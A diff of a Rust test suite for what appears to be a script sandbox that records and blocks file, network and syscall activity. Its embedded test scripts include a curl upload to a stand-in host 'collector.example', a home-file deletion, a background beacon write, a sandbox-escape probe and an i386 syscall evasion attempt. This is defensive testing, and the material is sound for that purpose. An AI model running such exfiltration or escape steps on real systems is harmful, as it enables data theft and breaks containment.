@@ -8,7 +8,7 @@ use std::time::Duration;
 const BASIC: &str = r#"#!/bin/sh
 cat /etc/hostname
 echo hi > out.txt
-rm -f "$HOME/Documents/notes.txt"
+rm -f "$HOME/.bash_logout"
 sh -c 'curl -s -m 2 https://collector.example/upload || true'
 python3 -c "
 import socket
@@ -23,7 +23,8 @@ except OSError as e:
 fn assert_basic(r: &Run) {
     let (complete, reasons) = r.run_end();
     assert!(complete, "run incomplete: {reasons:?}\n{}", r.stdout());
-    let ws = "/home/alice/projects/webapp";
+    let ctx = &r.trace.header.context;
+    let ws = ctx.workspace.clone();
     let opens = r.opens();
     assert!(
         opens
@@ -48,7 +49,7 @@ fn assert_basic(r: &Run) {
     });
     assert_eq!(
         unlink,
-        Some(("/home/alice/Documents/notes.txt".to_string(), Some(0)))
+        Some((format!("{}/.bash_logout", ctx.home), Some(0)))
     );
     let execs = r.execs();
     assert!(
@@ -146,7 +147,11 @@ print('parent done')
 "#;
     let s = skill("daemon", &[("scripts/d.py", script, 0o644)]);
     let r = observe(&s, &["--timeout", "30"]);
-    let hit = r.events().iter().find(|e| matches!(&e.kind, EventKind::Open { path, write: true, .. } if path == "/home/alice/.cache/beacon"));
+    let beacon = format!("{}/.cache/beacon", r.trace.header.context.home);
+    let hit = r
+        .events()
+        .iter()
+        .find(|e| matches!(&e.kind, EventKind::Open { path, write: true, .. } if *path == beacon));
     let hit = hit.unwrap_or_else(|| panic!("beacon write not recorded: {:?}", r.opens()));
     assert_eq!(hit.step, Some(0));
     // Its parent is the first fork's child (not pid 1 after reparenting).
@@ -195,7 +200,7 @@ print('RESULT', res)
     );
     let s = skill("escape", &[("scripts/e.py", &script, 0o644)]);
     let r = observe(&s, &["--timeout", "30"]);
-    let out = r.stdout();
+    let out = r.output();
     let line = out
         .lines()
         .find(|l| l.starts_with("RESULT"))
@@ -216,9 +221,10 @@ print('RESULT', res)
             "{key} reachable: {line}"
         );
     }
+    // /root is absent or empty: never a listing of the host's.
     assert!(
-        line.contains("'root': 'OK'"),
-        "/root should be an empty dir: {line}"
+        !line.contains("'root': 'Exception'"),
+        "/root has content: {line}"
     );
     assert!(
         host.accept().is_err(),
@@ -259,7 +265,7 @@ print('after', open('/proc/self/status').read().count('\n') > 5)
         denied.iter().any(|(s, a)| s == "prctl" && a == "pretend"),
         "{denied:?}"
     );
-    assert!(r.stdout().contains("after True"), "{}", r.stdout());
+    assert!(r.output().contains("after True"), "{}", r.output());
 }
 
 #[test]
@@ -275,7 +281,7 @@ print('survived', f())
 "#;
     let s = skill("int80", &[("scripts/i.py", script, 0o644)]);
     let r = observe(&s, &["--timeout", "30"]);
-    assert!(!r.stdout().contains("survived"), "{}", r.stdout());
+    assert!(!r.stdout().contains("survived"), "{}", r.output());
     let denied = r.kinds().any(|k| matches!(k, EventKind::Denied { arch, action, .. } if arch == "i386" && action == "kill"));
     assert!(denied, "no i386 kill recorded");
     let killed = r.kinds().any(|k| {
@@ -290,10 +296,18 @@ print('survived', f())
     assert!(killed);
 }
 
+/// The jail's own time (from `run_end`), not the image materialisation before it.
 fn assert_ends_within(r: &Run, budget: u64) {
+    let ms = r
+        .kinds()
+        .find_map(|k| match k {
+            EventKind::RunEnd { duration_ms, .. } => Some(*duration_ms),
+            _ => None,
+        })
+        .expect("run_end");
     assert!(
-        r.elapsed < Duration::from_secs(budget + 5),
-        "run took {:?} for a {budget} s budget",
+        Duration::from_millis(ms) < Duration::from_secs(budget + 3),
+        "run took {ms} ms for a {budget} s budget (wall {:?})",
         r.elapsed
     );
 }
